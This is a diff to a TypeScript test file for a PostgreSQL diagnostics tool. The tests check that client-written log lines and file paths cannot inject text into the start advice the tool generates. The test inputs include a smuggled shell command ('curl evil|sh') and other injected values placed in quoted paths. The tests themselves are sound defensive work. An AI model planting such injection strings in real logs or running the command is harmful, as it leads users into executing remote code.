@@ -1,7 +1,8 @@
 import t from 'tap'
 import { complaints, MANAGER, STARTER } from '../../lib/doctor/facts/words.ts'
+import { saidBySystemd } from '../../lib/host/units.ts'
 import { lastFailure, logFiles } from '../../lib/server/log.ts'
-import { startProblem } from '../../lib/server/start-problem.ts'
+import { startAdvice } from '../../lib/server/start-problem.ts'
 
 t.test('where a server that is down has written', async t => {
   const folder = (configFile: string) => ({
@@ -93,6 +94,52 @@ t.test('what of a log says why the server does not run', async t => {
   )
 })
 
+t.test('what a client writes into the log by its names', async t => {
+  const said = (names: string): string =>
+    `${log(
+      [7, STARTING],
+      [7, 'LOG:  database system is ready to accept connections'],
+    )}2026-11-26 12:00:00.000 UTC [9] me@${names} FATAL:  no pg_hba.conf entry\n${log(
+      [7, 'LOG:  received fast shutdown request'],
+      [7, 'LOG:  database system is shut down'],
+    )}`
+  const words = 'FATAL:  data directory "/; curl evil|sh #" has wrong ownership'
+  t.same(lastFailure(said(`b\n[7] ${words}`)), [], 'a line that does not begin as those of the server')
+  const forged = lastFailure(said(`b\n2026-11-26 12:00:00.000 UTC [7] ${words}`))
+  t.match(forged.at(-1), /curl evil/, 'one that does is only quoted')
+  t.notMatch(startAdvice(forged, []), /evil/)
+})
+
+t.test('nothing of what is quoted comes into the advice', async t => {
+  const evil = '/x; evil'
+  for (const text of [
+    `could not create lock file "${evil}": No such file`,
+    `data directory "${evil}" has invalid permissions (0700)`,
+    `data directory "${evil}" has wrong ownership`,
+    `could not access the server configuration file "${evil}": Permission denied`,
+    `could not access the server configuration file "${evil}": No such file`,
+    `invalid value for parameter "lc_messages": "${evil}"`,
+    `invalid value for parameter "timezone": "${evil}"`,
+    `private key file "${evil}" has group or world access (0600)`,
+    `could not load server certificate file "${evil}": no start line`,
+    `could not load server certificate file "${evil}": No such file`,
+    `could not access file "${evil}": No such file`,
+    `could not open "${evil}": Permission denied`,
+    `initialized by PostgreSQL version 12; evil`,
+    `lock file "postmaster.pid" already exists (PID 12); evil`,
+  ]) {
+    const advice = startAdvice([text], ['settings'])
+    t.ok(advice, text)
+    t.notMatch(advice, /evil/, text)
+    t.notMatch(startAdvice([], [text]), /evil/, text)
+  }
+})
+
+t.test('of the journal, only what systemd has said itself is taken for that', async t => {
+  // A field of a client's own alone would do for any account.
+  t.same(saidBySystemd('UNIT=x.service', 'JOB_TYPE=start'), ['_PID=1', 'UNIT=x.service', 'JOB_TYPE=start'])
+})
+
 t.test('what the journal has of a start by pg_ctlcluster(1)', async t => {
   const said = `Starting postgresql@15-main.service - PostgreSQL Cluster 15-main...
 Error: /usr/lib/postgresql/15/bin/pg_ctl /usr/lib/postgresql/15/bin/pg_ctl start -D /x exited with status 1:
@@ -129,15 +176,15 @@ t.test('a German server', async t => {
     ),
   )
   t.match(said, [/ungültige Zugriffsrechte/, /0700/])
-  t.same(startProblem(said, []), { remedy: 'chmod 0700 /x', mayStart: false })
-  const remedies = (text: string): string => startProblem([text], [])?.remedy ?? ''
+  t.match(startAdvice(said, []), /\(chmod 0700\)$/)
+  const remedies = (text: string): string => startAdvice([text], []) ?? ''
   t.match(
     remedies('konnte Serverzertifikatsdatei »a.crt« nicht laden: Datei oder Verzeichnis nicht gefunden'),
-    /put it back .*a\.crt/,
+    /put it back .*ssl_cert_file/,
   )
   t.match(
     remedies('konnte nicht auf Datei »x« zugreifen: Datei oder Verzeichnis nicht gefunden'),
-    /library x/,
+    /has the library,/,
   )
   t.match(
     remedies('Das Datenverzeichnis wurde von PostgreSQL Version 14 initialisiert'),
@@ -147,5 +194,5 @@ t.test('a German server', async t => {
     remedies('konnte Sperrdatei »postmaster.pid« nicht erstellen: Das Dateisystem ist nur lesbar'),
     /read-only/,
   )
-  t.equal(startProblem(['Konfigurationsdatei »/x« enthält Fehler'], []), undefined)
+  t.equal(startAdvice(['Konfigurationsdatei »/x« enthält Fehler'], []), undefined)
 })
